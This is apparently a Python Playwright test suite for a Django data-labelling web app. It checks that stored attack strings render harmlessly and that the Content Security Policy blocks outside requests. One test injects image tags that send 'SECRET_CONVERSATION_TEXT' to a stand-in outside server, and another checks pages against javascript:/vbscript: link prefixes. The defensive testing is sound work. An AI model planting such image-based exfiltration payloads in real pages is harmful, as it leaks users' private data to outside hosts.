"""Every attack case from shared/data/attacks.jsonl, stored as conversation text, model drafts,
replies to rank, instructions (and their diff) and a rationale, renders inert in the browser:
no dialog, no request to another host, the title unchanged, no javascript: link."""
from __future__ import annotations

from urllib.parse import urlsplit

import pytest

from annotations.services import leases, submissions
from annotations.services.instructions import publish_instructions
from frontend.models import InstructionAcknowledgement

from .conftest import attack_texts, comparison_task, demonstration_task

pytestmark = [pytest.mark.integration, pytest.mark.django_db(transaction=True)]


def watch(page):
    seen = {"dialogs": [], "hosts": set()}

    def on_dialog(dialog):
        seen["dialogs"].append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("request", lambda request: seen["hosts"].add(urlsplit(request.url).hostname)
            if request.url.startswith(("http:", "https:", "ws:", "wss:")) else None)
    return seen


def shown(text: str) -> str:
    """How untrusted text reads in a title: invisible characters as markers, whitespace collapsed."""
    from frontend.rendering import reveal_text

    return " ".join(reveal_text(text).split())


def assert_inert(page, title: str):
    assert page.title() == title
    hrefs = page.eval_on_selector_all("[href], [src], [action], [formaction]",
                                      "els => els.flatMap(e => ['href', 'src', 'action', 'formaction']"
                                      ".map(a => e.getAttribute(a)).filter(Boolean))")
    assert not [h for h in hrefs if h.strip().lower().replace("\t", "").startswith(("javascript:", "vbscript:"))]
    assert page.locator("iframe, object, embed, svg script, main style").count() == 0
    ours = page.eval_on_selector_all("script", "els => els.map(e => e.getAttribute('src'))")
    assert all(src and src.startswith("/static/") for src in ours), ours
    assert page.locator("main").is_visible()  # a <style> payload did not hide the page


def test_attack_cases_render_inert(page, live_server, labeller, logged_in, member):
    project, user = labeller
    attacks = attack_texts()
    # The project's name is hostile too: it is in every page's title and navigation.
    bidi = next(t for t in attacks if "\u202e" in t)
    project.name = (attacks[0] + " " + bidi)[:200]
    project.save(update_fields=["name"])
    # I confirmed v1; v2 (the attacks) is current, so the panel renders it and the banner diffs it.
    InstructionAcknowledgement.objects.create(user=user, project=project, version=project.current_instructions)
    short = attack_texts(max_chars=4000)  # instructions, replies and rationales have length limits
    publish_instructions(project=project, body="\n\n".join(short), published_by=project.created_by,
                         title=attacks[0])
    project.refresh_from_db()
    turns = [{"role": ("user", "assistant")[i % 2], "content": text} for i, text in enumerate(attacks)]
    demonstration_task(project, prompt=attacks[1], drafts=attacks[:8])
    from annotations.models import Task
    Task.objects.filter(project=project).update(conversation=[*turns, {"role": "user", "content": attacks[0]}])
    comparison_task(project, replies=attacks[:9], conversation=turns[:-1] + [{"role": "user", "content": "?"}])
    demo_lease = leases.lease_next_task(project=project, annotator=user)
    comp_lease = leases.lease_next_task(project=project, annotator=user)

    seen = watch(logged_in(user))
    for lease in (demo_lease, comp_lease):
        page.goto(f"{live_server.url}/projects/{project.pk}/label/{lease.pk}/")
        page.wait_for_selector("#label-app[data-ready]")
        assert page.locator("#instructions-banner .diff .d-add").count() >= len(attacks) // 2
        assert "⟨U+202E⟩" in page.locator(".instructions-panel .md").inner_text()
        assert "⟨U+200B⟩" in page.locator(".conversation").inner_text()
        title = "Demonstration" if lease is demo_lease else "Comparison"
        assert_inert(page, f"{title} · {shown(project.name)} · Labelwork")
    assert page.locator(".reply").count() == 9

    # Reviewers read rationales and replies in the submissions list; admins edit instructions.
    submissions.submit_demonstration(lease_id=demo_lease.pk, annotator=user, idempotency_key="k1",
                                     text="\n".join(short), rationale="\n".join(short))
    admin = project.created_by
    page.context.clear_cookies()
    logged_in(admin)
    page.goto(f"{live_server.url}/projects/{project.pk}/submissions/")
    assert_inert(page, f"Submissions · {shown(project.name)} · Labelwork")
    page.goto(f"{live_server.url}/projects/{project.pk}/instructions/?diff=2")
    page.get_by_role("button", name="Preview").click()
    assert_inert(page, f"Instructions · {shown(project.name)} · Labelwork")

    # The review queue shows the same texts as reply, rationale and critique, then as a ranking;
    # the rejection reason comes back to the annotator on their home page.
    from annotations.models import Submission
    from annotations.services import reviews
    from models_service.models import Critique

    from .conftest import model_version

    demo_sub = Submission.objects.get(lease=demo_lease)
    Critique.objects.create(submission=demo_sub, model_version=model_version(), status="done", verdict="revise",
                            instruction_version=demo_sub.instruction_version, scores={"helpful": 3},
                            issues=[{"quote": t, "problem": t, "suggestion": t} for t in short])
    reply_ids = [r.pk for r in comp_lease.task.replies.filter(for_ranking=True)]
    submissions.submit_ranking(lease_id=comp_lease.pk, annotator=user, idempotency_key="k2",
                               ranking=[[rid] for rid in reply_ids], rationale="\n".join(short),
                               flags={str(reply_ids[0]): ["unsafe"]})
    for _ in range(2):
        page.goto(f"{live_server.url}/projects/{project.pk}/review/")
        page.wait_for_selector("#review-form[data-ready]")
        assert_inert(page, f"Review · {shown(project.name)} · Labelwork")
        sid = int(page.locator("#review-form").get_attribute("data-submission"))
        reviews.review_submission(submission_id=sid, reviewer=admin, decision="reject",
                                  reason="\n".join(short)[:5000])
    assert page.locator(".review-ranking .reply").count() == 9
    page.context.clear_cookies()
    logged_in(user)
    page.goto(f"{live_server.url}/")
    assert page.locator(".returned tr[data-submission]").count() == 2
    assert_inert(page, "My projects · Labelwork")

    assert seen["dialogs"] == []
    assert seen["hosts"] <= {"127.0.0.1", "localhost"}, seen["hosts"]


def normalised(text: str) -> str:
    return " ".join(text.split())


def test_attack_names_render_inert_on_the_admin_pages(page, live_server, logged_in, settings):
    """Project names and descriptions, import file names (uploaded and fetched), URLs and audit
    details carry every attack case: shown as text (invisible characters as markers), and inert."""
    from annotations.models import ImportBatch
    from annotations.services import projects as project_service

    from ..factories import ProjectFactory, UserFactory

    names = attack_texts(max_chars=200)  # a project name holds 200 characters
    admin = UserFactory()
    projects = []
    for i, name in enumerate(names):
        project = ProjectFactory(name=f"p{i}", created_by=admin)
        projects.append(project_service.update_project_settings(project=project, actor=admin, name=name,
                                                                description=name))
    first = projects[0]
    for name in names:
        ImportBatch.objects.create(project=first, file_name=name, format="jsonl", created_by=admin, status="failed",
                                   source_url=f"https://files.example.org/{name[:40]}", errors=[{"line": 0,
                                                                                                 "reason": name}])
    seen = watch(logged_in(admin))

    page.goto(f"{live_server.url}/")
    assert_inert(page, "My projects · Labelwork")
    text = normalised(page.locator("main").inner_text())
    assert all(shown(name) in text for name in names)
    assert "⟨U+202E⟩" in text and "⟨U+200B⟩" in text

    for project, name in zip(projects, names):
        page.goto(f"{live_server.url}/projects/{project.pk}/imports/")
        assert_inert(page, f"Imports · {shown(name)} · Labelwork")
        assert shown(name) in normalised(page.locator(".project-nav").inner_text())
    page.goto(f"{live_server.url}/projects/{first.pk}/imports/")
    table = normalised(page.locator("table.list").inner_text())
    assert all(shown(name) in table for name in names)

    for batch in first.imports.all()[:4]:
        page.goto(f"{live_server.url}/projects/{first.pk}/imports/{batch.pk}/")
        assert_inert(page, f"Import {batch.pk} · {shown(first.name)} · Labelwork")
    page.goto(f"{live_server.url}/projects/{first.pk}/audit/")
    assert_inert(page, f"Audit log · {shown(first.name)} · Labelwork")
    page.goto(f"{live_server.url}/projects/{first.pk}/settings/")
    assert_inert(page, f"Settings · {shown(first.name)} · Labelwork")
    assert page.locator("input[name=name]").input_value() == first.name  # a form shows the value as it is

    assert seen["dialogs"] == []
    assert seen["hosts"] <= {"127.0.0.1", "localhost"}, seen["hosts"]


def test_csp_alone_stops_an_outside_image_when_the_sanitiser_is_bypassed(page, live_server, labeller, logged_in,
                                                                        monkeypatch, settings):
    """The second layer on its own: with the Markdown sanitiser switched off in the server, an
    instruction's outside image reaches the page as a real <img>, and the browser still sends
    nothing to the outside host because of the CSP (img-src 'self' data:). The same page with the
    CSP header removed does send the request, so the test can see a leak when there is one."""
    from django.utils.safestring import mark_safe

    from markdown_it import MarkdownIt

    from annotations.services.instructions import publish_instructions

    from ..annotations.file_servers import STAND_IN, Server

    outside = Server(STAND_IN)  # another origin than the live server
    try:
        project, user = labeller
        exfil = f"{outside.url('/collect')}?q=SECRET_CONVERSATION_TEXT"
        publish_instructions(project=project, published_by=project.created_by,
                             body=f"# Rules\n\n![loading]({exfil})\n\n<img src=\"{exfil}&raw=1\">")
        project.refresh_from_db()
        demonstration_task(project)
        lease = leases.lease_next_task(project=project, annotator=user)
        # Bypass: raw HTML on, nothing removed afterwards.
        unsafe = MarkdownIt("commonmark", {"html": True})
        monkeypatch.setattr("frontend.templatetags.labelwork.render_markdown",
                            lambda source: mark_safe(unsafe.render(source or "")))

        page = logged_in(user)
        page.add_init_script("window.__blocked = []; document.addEventListener('securitypolicyviolation',"
                             " e => window.__blocked.push(e.violatedDirective + ' ' + e.blockedURI));")
        url = f"{live_server.url}/projects/{project.pk}/label/{lease.pk}/"
        page.goto(url)
        page.wait_for_selector("#label-app[data-ready]")
        assert page.locator(f".instructions-panel img[src^='{outside.url('/collect')}']").count() == 2  # bypassed
        page.wait_for_timeout(500)
        assert outside.seen == []
        blocked = page.evaluate("window.__blocked")
        assert any(b.startswith("img-src") and "/collect" in b for b in blocked), blocked

        # Control: the same page served without its CSP (django-csp's own exclusion setting).
        settings.CONTENT_SECURITY_POLICY = {**settings.CONTENT_SECURITY_POLICY, "EXCLUDE_URL_PREFIXES": ["/projects/"]}
        assert "content-security-policy" not in page.goto(url).headers
        page.wait_for_selector("#label-app[data-ready]")
        page.wait_for_function("document.querySelectorAll('.instructions-panel img').length === 2"
                               " && [...document.querySelectorAll('.instructions-panel img')].every(i => i.complete)")
        assert [path for path, _host in outside.seen] == ["/collect", "/collect"]
    finally:
        outside.close()
